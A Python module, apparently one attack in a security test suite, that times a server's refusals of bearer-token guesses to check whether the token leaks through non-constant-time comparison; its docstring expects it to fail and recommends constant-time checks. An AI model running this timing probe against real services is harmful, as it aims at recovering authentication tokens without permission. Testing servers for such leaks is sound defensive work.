"""Steals: a token, by measuring how long the server takes to refuse a wrong one.

`!=` ends at the first character that differs, so a guess that begins right takes longer. An
attacker who can measure that finds the token character by character. Here guesses with no, half
and all but one of their characters right are sent in turn, and their times are compared.

It is not expected to succeed, against either server. In one process, with Python 3.11, `!=`
took 2 ns longer for 42 right characters of 43 than for none, and with hmac.compare_digest there
was no difference. Such a difference is lost in the noise of a socket. Constant time is still
right: it costs one line, and you need not prove that the noise will always be enough.
"""

import asyncio
import random
import statistics
import time
from asyncio import StreamReader, StreamWriter
from urllib.parse import urlsplit

from attacks.finding import Finding
from attacks.target import NotTried, Refused, Server

AGAINST = "server"
CASE = ""
CLAIMED = False  # that it succeeds against the open server
ROUNDS = 300
SURE = 5.0  # standard errors: by chance once in millions of runs


async def attack(server: Server) -> Finding:
    if not server.alice:
        raise NotTried("needs a token")
    reader, writer = await asyncio.open_connection(
        urlsplit(server.url).hostname, urlsplit(server.url).port
    )
    token = server.alice
    guesses = {
        right: guess_with(right, token) for right in (0, len(token) // 2, len(token) - 1)
    }
    times: dict[int, list[float]] = {right: [] for right in guesses}
    try:
        for _ in range(ROUNDS):
            # In a new order each time: what slows the machine down slows them all alike.
            for right in random.sample(list(guesses), len(guesses)):
                times[right].append(await time_to_refuse(reader, writer, guesses[right]))
    finally:
        writer.close()
    none, half, most = times.values()
    longer = (statistics.median(most) - statistics.median(none)) * 1e6
    noise = (error(none) ** 2 + error(most) ** 2) ** 0.5 * 1e6
    grows = statistics.median(none) < statistics.median(half) < statistics.median(most)
    if longer > SURE * noise and grows:
        return Finding(True, f"right characters cost {longer:.1f} µs, noise {noise:.1f} µs")
    return Finding(False, f"not measurable: {longer:+.1f} µs in noise of ±{noise:.1f} µs")


def guess_with(right: int, token: str) -> str:
    """A token of the same length that begins with this many right characters."""
    return token[:right] + "".join("A" if c != "A" else "B" for c in token[right:])


async def time_to_refuse(reader: StreamReader, writer: StreamWriter, guess: str) -> float:
    """Seconds from a request to the whole answer, on a kept connection."""
    host, port = writer.get_extra_info("peername")[:2]
    head = f"GET /sse HTTP/1.1\r\nHost: {host}:{port}\r\nAuthorization: Bearer {guess}\r\n\r\n"
    began = time.perf_counter()
    writer.write(head.encode())
    answer = await reader.readuntil(b"\r\n\r\n")
    took = time.perf_counter() - began
    status = int(answer.split()[1])
    if status != 401:
        raise Refused(f"a wrong token: {status}")
    await reader.readexactly(int(answer.lower().partition(b"content-length:")[2].split()[0]))
    return took


def error(times: list[float]) -> float:
    """The standard error of their median. A few very slow answers don't change it much."""
    median = statistics.median(times)
    deviation = statistics.median(abs(each - median) for each in times)
    # 1.4826 makes of it what a standard deviation is without the slow ones, 1.2533 the
    # error of a median of what is that of a mean.
    return 1.2533 * 1.4826 * deviation / len(times) ** 0.5
